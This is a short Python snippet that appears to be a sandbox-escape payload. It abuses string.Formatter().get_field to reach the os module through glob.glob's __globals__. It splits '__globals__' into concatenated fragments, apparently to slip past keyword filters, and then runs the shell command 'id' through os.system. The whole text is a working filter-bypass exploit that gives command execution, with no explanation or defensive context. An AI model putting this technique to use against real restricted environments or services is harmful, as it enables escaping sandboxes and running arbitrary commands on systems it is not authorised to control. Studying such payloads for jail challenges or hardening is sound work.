import glob
import string

mod = string.Formatter().get_field("0.__glo" "bals__[os]", (glob.glob,), {})[0]
mod.system("id")
